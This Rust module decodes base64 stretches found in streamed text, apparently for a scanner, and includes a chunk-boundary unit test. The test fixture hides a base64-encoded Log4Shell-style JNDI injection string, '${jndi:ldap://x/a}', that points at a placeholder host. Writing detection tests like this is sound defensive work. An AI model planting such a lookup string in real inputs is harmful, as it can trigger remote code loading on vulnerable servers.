//! Base64 within a text: stretches of its alphabet that are long enough to be something are decoded.

use std::sync::LazyLock;

use crate::class::Class;
use crate::decode::base64::{self, Base64};
use crate::text::Text;

/// Shortest stretch that is decoded, in characters; words are shorter.
pub(crate) const MIN_STRETCH: usize = 24;

/// Characters of a stretch: the alphabet, and the line breaks within (RFC 2045 §6.8).
static ALPHABET: LazyLock<Class> = LazyLock::new(|| {
    let mut bytes = Box::new([false; 256]);
    for (byte, place) in (0..=u8::MAX).zip(bytes.iter_mut()) {
        *place = base64::value(byte).is_some() || matches!(byte, b'\r' | b'\n');
    }
    Class::new(bytes, MIN_STRETCH)
});

/// Where in a text a search for stretches is.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Armor {
    decoder: Base64,
    in_stretch: bool,
}

/// What a piece has of stretches, in the order of the text.
pub(crate) enum Decoded<'a> {
    /// Bytes of one.
    Bytes(&'a [u8]),
    /// It is over.
    End,
}

impl Armor {
    /// Takes the next piece of a text. `buffer` is used for what is decoded.
    pub(crate) fn push(&mut self, text: &Text<'_>, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        let class = &*ALPHABET;
        let mut from = 0;
        let before = class.trailing(text.tail, MIN_STRETCH - 1);
        if self.in_stretch || before > 0 {
            // What the last piece ended with goes on.
            let (here, rest) = text.data.split_at_checked(class.leading(text.data)).unwrap_or_default();
            if !self.in_stretch && before.saturating_add(here.len()) >= MIN_STRETCH {
                self.in_stretch = true;
                let start = text.tail.len().saturating_sub(before);
                self.decode(text.tail.get(start..).unwrap_or_default(), buffer, give);
            }
            if self.in_stretch {
                self.decode(here, buffer, give);
                if rest.is_empty() {
                    return;
                }
                self.end(buffer, give);
            }
            from = here.len();
        }
        // Each turn goes on behind a stretch.
        while let Some(stretch) = class.next_run(text.data, from) {
            (self.in_stretch, from) = (true, stretch.end);
            self.decode(text.data.get(stretch).unwrap_or_default(), buffer, give);
            if from == text.data.len() {
                return;
            }
            self.end(buffer, give);
        }
    }

    /// The text is over.
    pub(crate) fn finish(&mut self, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        if self.in_stretch {
            self.end(buffer, give);
        }
        *self = Self::default();
    }

    fn decode(&mut self, stretch: &[u8], buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        buffer.clear();
        self.decoder.push(stretch, buffer);
        give(Decoded::Bytes(buffer));
    }

    fn end(&mut self, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        buffer.clear();
        self.decoder.finish(buffer);
        give(Decoded::Bytes(buffer));
        give(Decoded::End);
        self.in_stretch = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &[u8], cut: usize) -> Vec<Vec<u8>> {
        let (mut armor, mut buffer, mut tail) = (Armor::default(), Vec::new(), Vec::new());
        let mut out = vec![Vec::new()];
        let mut give = |piece: Decoded<'_>| match piece {
            Decoded::Bytes(bytes) => out.last_mut().unwrap().extend_from_slice(bytes),
            Decoded::End => out.push(Vec::new()),
        };
        for data in text.chunks(cut) {
            armor.push(&Text { tail: &tail, data, offset: tail.len() as u64 }, &mut buffer, &mut give);
            tail.extend_from_slice(data);
        }
        armor.finish(&mut buffer, &mut give);
        out.retain(|stretch| !stretch.is_empty());
        out
    }

    #[test]
    fn stretches_are_decoded_wherever_the_text_is_cut() {
        let text = b"{\"word\": \"and words\", \"data\": \"JHtqbmRpOmxkYXA6Ly94L2F9IGlzIGl0\", \"more\": \"c2hvcnQ\"}";
        for cut in 1..text.len() {
            assert_eq!(decoded(text, cut), [b"${jndi:ldap://x/a} is it"], "{cut}");
        }
    }
}
